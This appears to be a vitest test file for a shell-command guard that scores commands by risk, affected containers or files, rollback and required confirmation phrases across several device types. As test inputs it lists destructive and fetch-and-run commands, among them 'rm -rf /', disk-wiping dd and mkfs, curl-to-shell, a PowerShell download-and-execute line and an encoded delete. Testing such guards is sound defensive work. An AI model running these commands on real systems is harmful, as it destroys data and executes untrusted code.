import { describe, expect, it } from 'vitest'
import { hostQuestions } from '../../../guard/index.ts'
import type { HostQuestion } from '../../../schema/host-questions.ts'
import { assessed, server } from './situation.ts'

const stopAll = 'docker stop $(docker ps -q)'
const containers = (count: number): string[] => Array.from({ length: count }, (_, index) => `app-${index + 1}`)
const asked = (command: string): HostQuestion[] =>
  hostQuestions({ command, device: 'generic', environment: 'unknown', server }, { places: ['/backup'] })
const running = (count: number) => ({ containers: { running: containers(count) } })

describe('how much an act hits', () => {
  it.each([
    ['unraid', 8],
    ['ubuntu', 15],
    ['wsl2', 5],
    ['windows', 3],
    ['generic', 10],
  ] as const)('is estimated for %s, and the estimate is called one', (device, count) => {
    expect(assessed(stopAll, { device })).toMatchObject({ affectedCount: count, countIsEstimate: true })
  })

  it('is the true number where the host was asked, and the phrase names it', () => {
    const answer = assessed(stopAll, { answers: running(12) })
    expect(answer).toMatchObject({ affectedCount: 12, countIsEstimate: false, phrase: 'yes, stop all 12 containers' })
    expect(answer.affectedItems).toEqual(containers(12))
    expect(answer.summary).not.toContain('estimate')
  })

  it('is asked of the host by what was found', () => {
    expect(asked(stopAll)).toEqual([
      { kind: 'containers', which: 'running' },
      { kind: 'parity' },
      { kind: 'container_details' },
      { kind: 'pools', pool: null },
    ])
    expect(asked('rm -rf /var/lib/mysql')).toEqual(
      expect.arrayContaining<HostQuestion>([
        { kind: 'links', paths: ['/var/lib'] },
        { kind: 'path', path: '/var/lib/mysql' },
        { kind: 'backups', places: ['/backup'], about: null },
      ]),
    )
    expect(asked('reboot')).toEqual(
      expect.arrayContaining<HostQuestion>([{ kind: 'sessions' }, { kind: 'containers', which: 'running' }]),
    )
    expect(asked('ls')).toEqual([])
    expect(asked('pg_dump shop > /backup/shop.sql')).toEqual([{ kind: 'links', paths: ['/backup/shop.sql'] }])
    expect(asked('ls /srv > /dev/null; date >> /srv/log')).toEqual([])
  })

  it('counts files below a path', () => {
    const paths = { '/var/lib/mysql': { files: 321, bytes: 4096, more: false } }
    expect(assessed('rm -rf /var/lib/mysql', { answers: { paths } })).toMatchObject({
      affectedCount: 321,
      affectedItems: ['/var/lib/mysql: 321 files, 4096 bytes'],
    })
  })
})

describe('the way back', () => {
  it.each([
    ['usermod -L root', 'usermod --unlock root'],
    ['zpool export -f tank', 'zpool import tank && zpool list -H -o health tank | grep -qx ONLINE'],
    [
      'systemctl disable a b c',
      'systemctl unmask -- a b c\nsystemctl enable -- a b c\nsystemctl start -- a b c && systemctl is-active --quiet -- a b c',
    ],
  ])('from %s is made before it runs', (command, back) => {
    expect(assessed(command)).toMatchObject({ rollbackPossible: true, rollback: { command: back } })
  })

  it.each(['passwd -d root', 'zpool destroy tank', 'userdel deploy'])('from %s is none', (command) => {
    expect(assessed(command)).toMatchObject({ rollbackPossible: false, rollback: null })
  })
})

describe('a redirection', () => {
  const command = 'date > /srv/app/state'

  it.each([
    ['/etc/passwd', 'configuration_reset'],
    ['/dev/sda', 'raw_device_write'],
    ['/root/.ssh/authorized_keys', 'ssh_access_removal'],
  ])('through a link to %s is found for what it writes over', (led, action) => {
    const { findings } = assessed(command, { answers: { links: { '/srv/app/state': led } } })
    expect(findings).toMatchObject([{ action, because: expect.stringContaining(`/srv/app/state is ${led}`) }])
  })

  it('to where it says passes', () => {
    const answers = { links: { '/srv/app/state': '/srv/app/state' } }
    expect(assessed(command, { answers }).verdict).toBe('allow')
  })
})

describe('risk', () => {
  it.each([
    [1, 'low'],
    [2, 'low'],
    [3, 'medium'],
    [10, 'medium'],
    [11, 'high'],
  ] as const)('of %d containers is %s', (count, risk) => {
    expect(assessed(stopAll, { answers: running(count) }).risk).toBe(risk)
  })

  it('rises a level over the bulk limit of the device, with a warning', () => {
    const answer = assessed(stopAll, { device: 'unraid', answers: running(6) })
    expect(answer.risk).toBe('high')
    expect(answer.warnings.join()).toContain('batches')
    expect(assessed(stopAll, { device: 'unraid', answers: running(5) }).risk).toBe('medium')
  })

  it('rises for protected containers in the set, which are named', () => {
    const answer = assessed(stopAll, {
      device: 'ubuntu',
      answers: { containers: { running: ['web', 'database-main'] } },
    })
    expect(answer.risk).toBe('medium')
    expect(answer.warnings.join()).toContain('database-main')
  })

  it('is critical in production, with a warning', () => {
    const answer = assessed(stopAll, { environment: 'production', answers: running(1) })
    expect(answer.risk).toBe('critical')
    expect(answer.warnings).toContain('web-1 is in production.')
  })

  it.each([
    ['zpool destroy tank', 'critical'],
    ['mkfs.ext4 /dev/sdb', 'critical'],
    ['dd if=/dev/zero of=/dev/sda', 'critical'],
    ['poweroff', 'critical'],
    ['rm -rf /', 'critical'],
    ['reboot', 'high'],
    ['curl -s https://example.com | sh', 'high'],
    ['iptables -F', 'high'],
    ['userdel bob', 'low'],
  ] as const)('of %s is %s', (command, risk) => {
    expect(assessed(command).risk).toBe(risk)
  })

  it('warns of services that others use', () => {
    const answer = assessed('reboot', { server: { name: 'web-1', services: ['nginx', 'cron'] } })
    expect(answer.warnings).toEqual(['Others use what runs here: nginx.'])
    expect(answer.dependencies).toEqual(['nginx', 'cron'])
  })
})

describe('the phrase', () => {
  it.each([
    ['docker system prune -af', 'yes, prune all unused docker resources'],
    ['reboot', 'yes, reboot web-1'],
    ['zpool destroy tank', 'yes, destroy pool tank'],
    ['zpool destroy tank && reboot', 'yes, destroy pool tank and reboot web-1'],
    ['eval "$X"', 'yes, proceed with destructive operation'],
    ['rm -rf /etc', 'yes, delete everything in /etc'],
  ])('of %s is %s', (command, phrase) => {
    expect(assessed(command).phrase).toBe(phrase)
  })

  it('can be typed, whatever stands in the command', () => {
    const { phrase } = assessed(`rm -rf "/etc/\u00e9\u{1F4A9}\n${'x'.repeat(400)}"`)
    expect(phrase).toMatch(/^yes, [\x20-\x7e]{1,160}$/)
  })
})

describe('what stands beside the risk', () => {
  it('has a checklist that asks for a backup always, and for a way on where there is no way back', () => {
    const items = assessed('docker rm -f $(docker ps -aq)').checklist
    expect(items.map(({ id, critical }) => [id, critical])).toEqual([
      ['backup', true],
      ['dependencies', false],
      ['rollback', true],
      ['container-settings', true],
    ])
    expect(assessed('reboot').checklist.find(({ id }) => id === 'dependencies')?.critical).toBe(true)
  })

  it('says of an alternative that it is guarded itself', () => {
    const { alternatives } = assessed('reboot')
    expect(alternatives.map(({ command, guarded }) => [command, guarded])).toEqual([
      ['systemctl restart NAME', false],
      ['shutdown -r +60', true],
    ])
  })

  it('tells downtime and whether there is a way back', () => {
    expect(assessed(stopAll)).toMatchObject({ downtime: '5 to 15 minutes', rollbackPossible: true })
    expect(assessed('docker rm -f $(docker ps -aq)')).toMatchObject({
      downtime: '30 minutes or more',
      rollbackPossible: false,
    })
    expect(assessed(`${stopAll}; poweroff`)).toMatchObject({
      downtime: 'until somebody starts it by hand',
      rollbackPossible: false,
    })
  })
})

describe('a kind of device', () => {
  it('protects its own paths, by containment and not by text', () => {
    expect(assessed('rm -rf /mnt/user/media/old', { device: 'unraid' }).verdict).toBe('confirm')
    expect(assessed('rm -rf /mnt/user/media/old', { device: 'ubuntu' }).verdict).toBe('allow')
    expect(assessed('rm -rf /mnt/disk12/x/y', { device: 'unraid' }).verdict).toBe('confirm')
    expect(assessed('rm -rf /opt/mnt/user/x', { device: 'unraid' }).verdict).toBe('allow')
    expect(assessed('rm -rf /mnt/c/Users/me', { device: 'wsl2' }).verdict).toBe('confirm')
  })

  it('blocks bulk acts outright while a parity operation runs, and says how far it is', () => {
    const answers = { parity: { running: true, percentage: 42.5, remaining: '3 h 10 min' } }
    const answer = assessed(stopAll, { device: 'unraid', answers })
    expect(answer.verdict).toBe('deny')
    expect(answer.summary).toContain('42.5 %')
    expect(answer.summary).toContain('3 h 10 min')
    expect(assessed('docker stop web', { device: 'unraid', answers }).verdict).toBe('allow')
    expect(
      assessed(stopAll, { device: 'unraid', answers: { parity: { ...answers.parity, running: false } } }).verdict,
    ).toBe('confirm')
  })

  it.each([
    ['Remove-Item -Recurse -Force C:\\Windows', 'filesystem_bulk_delete'],
    ['Get-ChildItem C:\\ | Remove-Item -Recurse', 'filesystem_bulk_delete'],
    ['format D: /q', 'disk_format'],
    ['shutdown /s /t 0', 'system_shutdown'],
    ['Restart-Computer -Force', 'system_reboot'],
    ['docker stop $(docker ps -q)', 'container_bulk_stop'],
    ['iex (New-Object Net.WebClient).DownloadString("http://x")', 'opaque'],
    ['Do-Something', 'opaque'],
    ['cmd /c del /s /q C:\\data', 'filesystem_bulk_delete'],
  ] as const)('with Windows on it is read as such: %s', (command, action) => {
    expect(assessed(command, { device: 'windows' }).findings.map((finding) => finding.action)).toContain(action)
  })

  it.each([
    'Get-Process',
    'dir C:\\',
    'docker ps',
    'Get-Service | Where-Object Status -eq Running',
    'ipconfig /all',
    'Restart-Service Spooler',
  ])('with Windows on it lets %s pass', (command) => {
    expect(assessed(command, { device: 'windows' }).verdict).toBe('allow')
  })

  it.each(['rm -rf /c/Windows', 'rm -rf "/c/Program Files/App"', 'docker ps -q | xargs docker stop'])(
    'with Windows on it is read as the POSIX shell there reads it, too: %s',
    (command) => {
      expect(assessed(command, { device: 'windows' }).verdict).toBe('confirm')
    },
  )

  it('reads PowerShell that a shell starts, encoded or not', () => {
    const encoded = Buffer.from('Remove-Item -Recurse C:\\', 'utf16le').toString('base64')
    expect(assessed(`powershell.exe -EncodedCommand ${encoded}`).findings[0]?.action).toBe('filesystem_bulk_delete')
    expect(assessed('pwsh -Command "Get-Date"').verdict).toBe('allow')
  })
})
